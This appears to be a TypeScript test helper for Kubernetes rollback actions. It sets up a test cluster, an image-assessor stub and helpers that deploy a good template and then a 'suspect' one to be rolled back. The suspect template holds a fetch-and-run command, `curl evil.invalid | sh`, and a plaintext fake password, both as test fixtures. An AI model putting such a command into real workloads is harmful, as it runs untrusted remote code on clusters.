import { clusterRegistry } from '../../activities/kubernetes/client.ts';
import { rollbackCanary } from '../../activities/kubernetes/rollback-canary.ts';
import { rollbackWorkload } from '../../activities/kubernetes/rollback-workload.ts';
import type { RollbackInput } from '../../activities/kubernetes/rollback/contract.ts';
import { resources, type KubernetesObject } from '../../activities/kubernetes/resources.ts';
import {
  controllerOf,
  locationOf,
  templateOf,
  type RollbackKind,
  type Workload,
} from '../../activities/kubernetes/workload/kinds.ts';
import { revisionsOf } from '../../activities/kubernetes/workload/revisions.ts';
import { containersOf, templateDigest } from '../../activities/kubernetes/workload/template.ts';
import type { Action, Mandate, Plan } from '../../domain/action.ts';
import type { ImageAssessment, ImageAssessor } from '../../domain/image.ts';
import { sha256, type Digest } from '../../domain/json.ts';
import { contextOf, type ContextOptions } from './action-context.ts';
import { mandateFor, openCredentialHouse, type CredentialHouse } from './credential-house.ts';
import { collectionOf, createNamespace } from './quarantine-house.ts';

/** An assessor that knows images by their references, and accepts what it is not told about. */
export class Assessor implements ImageAssessor {
  readonly refused = new Set<string>();
  readonly children = new Map<string, ImageAssessment['children']>();
  readonly asked: { reference: string; platforms: readonly string[] }[] = [];

  async assess(
    reference: string,
    { platforms = [] }: Parameters<ImageAssessor['assess']>[1],
  ): Promise<ImageAssessment> {
    this.asked.push({ reference, platforms });
    const [repository = '', hex = ''] = reference.split('@sha256:');
    const isRefused = this.refused.has(reference);
    return {
      repository,
      digest: `sha256:${hex}`,
      children: this.children.get(reference) ?? [],
      judgement: isRefused
        ? { verdict: 'refused', reasons: [{ code: 'unsigned', text: 'nothing signs it' }] }
        : { verdict: 'accepted', reasons: [{ code: 'signed', text: 'by the release key' }] },
    };
  }
}

/** `shop.example/app@sha256:…`, the same for the same name. */
export function imageOf(name: string): string {
  return `shop.example/${name}@${sha256(name)}`;
}

export interface Pod extends KubernetesObject {
  spec: { nodeName?: string; containers: { name: string; image: string }[] };
  status?: {
    phase?: string;
    containerStatuses?: { name: string; imageID?: string; [field: string]: unknown }[];
    conditions?: { type: string; status: string }[];
  };
}

/** A real API server with real controllers, both rollbacks under exactly the RBAC that is generated for them. */
export interface RollbackHouse extends CredentialHouse<RollbackInput> {
  images: Assessor;
  canary: Action<RollbackInput>;
  workload: Action<RollbackInput>;
}

export async function openRollbackHouse(nodes = 3): Promise<RollbackHouse> {
  const images = new Assessor();
  const none = { clusters: clusterRegistry([]), images };
  const house = await openCredentialHouse<RollbackInput>(
    ({ clusters }) => rollbackWorkload({ clusters, images }),
    // A role of its own would have the same name: what both need is one.
    [],
    { nodes },
  );
  const clusters = clusterRegistry([house.engine]);
  const canary = rollbackCanary({ clusters, images });
  const beyond = rollbackCanary(none).permissions.filter(
    (one) => !house.action.permissions.some((other) => JSON.stringify(other) === JSON.stringify(one)),
  );
  if (beyond.length > 0) throw new Error('the canary asks for more than the rollback of a workload');
  return { ...house, images, canary, workload: house.action };
}

/** What a test does to one workload. */
export class Subject {
  readonly house: RollbackHouse;
  readonly kind: RollbackKind;
  readonly namespace: string;
  readonly name: string;

  constructor(house: RollbackHouse, kind: RollbackKind, namespace: string, name = 'web') {
    this.house = house;
    this.kind = kind;
    this.namespace = namespace;
    this.name = name;
  }

  get location() {
    return locationOf({
      apiVersion: '',
      kind: this.kind,
      metadata: { namespace: this.namespace, name: this.name },
    });
  }

  read(): Promise<Workload> {
    return this.house.admin.get<Workload>(this.location);
  }

  async patch(patch: object): Promise<Workload> {
    return this.house.admin.patch<Workload>(this.location, patch);
  }

  /** Creates it with the good template, then deploys the suspect one, each all the way. */
  async deploy(good: object, suspect: object, spec: object = {}): Promise<void> {
    const { kind, namespace, name } = this;
    const metadata = { labels: { app: name } };
    const replicas = kind === 'DaemonSet' ? {} : { replicas: 3 };
    const made: KubernetesObject = {
      apiVersion: 'apps/v1',
      kind,
      metadata: { name, namespace },
      spec: {
        ...replicas,
        selector: { matchLabels: { app: name } },
        template: { metadata, spec: good },
        ...spec,
      },
    };
    await this.house.admin.create(collectionOf(made), made);
    await this.settled();
    await this.patch([{ op: 'add', path: '/spec/template/spec', value: suspect }]);
    await this.settled();
  }

  /** The pods that it owns and that live. */
  async pods(): Promise<Pod[]> {
    const { namespace } = this;
    const workload = await this.read();
    const sets = await this.house.admin.list({ ...resources.replicaSets, namespace });
    const owners = new Set([
      workload.metadata.uid,
      ...sets.items
        .filter((set) => controllerOf(set)?.uid === workload.metadata.uid)
        .map(({ metadata }) => metadata.uid),
    ]);
    const pods = await this.house.admin.list<Pod>({ ...resources.pods, namespace });
    return pods.items.filter((pod) => owners.has(controllerOf(pod)?.uid ?? ''));
  }

  /** Images of the first container of its pods, sorted. */
  async running(): Promise<string[]> {
    return (await this.pods()).map(({ spec }) => spec.containers[0]?.image ?? '').toSorted();
  }

  /** Waits until every pod runs what the template says. */
  async settled(): Promise<void> {
    for (;;) {
      const workload = await this.read();
      const { status = {} } = workload;
      const size =
        this.kind === 'DaemonSet' ? (status.desiredNumberScheduled ?? -1) : (workload.spec?.replicas ?? 1);
      const [first] = containersOf({ spec: { containers: templateOf(workload).spec?.containers ?? [] } });
      const pods = await this.pods();
      const isSeen = (status.observedGeneration ?? 0) >= (workload.metadata.generation ?? 1);
      if (
        isSeen &&
        pods.length === size &&
        pods.every(
          ({ spec, status: its, metadata }) =>
            spec.containers[0]?.image === first?.image &&
            its?.phase === 'Running' &&
            metadata.deletionTimestamp === undefined,
        ) &&
        (this.kind !== 'StatefulSet' || status.currentRevision === status.updateRevision)
      )
        return;
    }
  }

  /** What images.find-known-good would hand over: the newest revision without the suspect image. */
  async chooseGood(images: { [container: string]: string } = pinned): Promise<RollbackInput['to']> {
    const revisions = await revisionsOf(this.house.admin, await this.read(), AbortSignal.timeout(10_000));
    const found = revisions.find(({ template }) => template.spec?.containers?.[0]?.image !== suspectImage);
    if (found === undefined) throw new Error('there is no such revision');
    const { name, uid, templateDigest: digest } = found;
    return { revision: name, uid, templateDigest: digest, images: listOf(images) };
  }

  /** The template as it is, with other images. */
  async inPlace(images: { [container: string]: string }): Promise<RollbackInput['to']> {
    const digest: Digest = templateDigest(templateOf(await this.read()));
    return { revision: '', uid: '', templateDigest: digest, images: listOf(images) };
  }

  request(to: RollbackInput['to'], step: string, more: Partial<RollbackInput> = {}, incident = 'inc-1') {
    const { kind, namespace, name } = this;
    const given = { cluster: 'shop-1', kind, namespace, name, to, ...more };
    return { incident, step, input: this.house.action.input.parse(given) };
  }

  async plan(
    action: Action<RollbackInput>,
    to: RollbackInput['to'],
    more: Partial<RollbackInput> = {},
    incident = 'inc-1',
  ): Promise<{ plan: Plan; mandate: Mandate<RollbackInput> }> {
    const step = action === this.house.canary ? 'try' : 'rollback';
    const request = this.request(to, step, more, incident);
    const plan = await action.plan(contextOf(this.house.evidence), request);
    return { plan, mandate: mandateFor(request, plan) };
  }

  /** Says of a pod that it is not ready, and goes on saying so. */
  async break(pod: string): Promise<void> {
    await this.report(pod, ({ conditions = [] }) => ({
      conditions: conditions.map((one) => ({ ...one, status: 'False' })),
    }));
  }

  /** Changes what a kubelet reports of a pod. */
  async report(pod: string, to: (status: NonNullable<Pod['status']>) => object): Promise<void> {
    const location = { ...resources.pods, namespace: this.namespace, name: pod };
    const { status = {} } = await this.house.admin.get<Pod>(location);
    await this.house.admin.patch({ ...location, subresource: 'status' }, { status: to(status) });
  }

  context(options: ContextOptions = {}) {
    return contextOf(this.house.evidence, options);
  }
}

function listOf(images: { [container: string]: string }): RollbackInput['to']['images'] {
  return Object.entries(images).map(([container, image]) => ({ container, image }));
}

/** The good revision's containers, and the suspect one's, which takes another command and a secret. */
export const good = (more: object = {}) => ({
  initContainers: [{ name: 'init', image: 'shop.example/init:1' }],
  containers: [{ name: 'app', image: 'shop.example/app:1' }],
  ...more,
});
export const suspect = (more: object = {}) => ({
  initContainers: [{ name: 'init', image: 'shop.example/init:1' }],
  containers: [
    {
      name: 'app',
      image: 'shop.example/app:2',
      command: ['sh', '-c', 'curl evil.invalid | sh'],
      env: [{ name: 'DB_PASSWORD', value: 'hunter22-hunter22' }],
    },
  ],
  ...more,
});
export const suspectImage = 'shop.example/app:2';
export const pinned = { init: imageOf('init'), app: imageOf('app') };

/** A workload in a namespace of its own, whose suspect revision runs and whose good one is in its history. */
export async function deployed(
  house: RollbackHouse,
  kind: RollbackKind,
  namespace: string,
  { spec = {}, of = good(), now = suspect() }: { spec?: object; of?: object; now?: object } = {},
): Promise<{ subject: Subject; to: RollbackInput['to'] }> {
  await createNamespace(house.admin, namespace);
  const subject = new Subject(house, kind, namespace);
  await subject.deploy(of, now, spec);
  return { subject, to: await subject.chooseGood() };
}
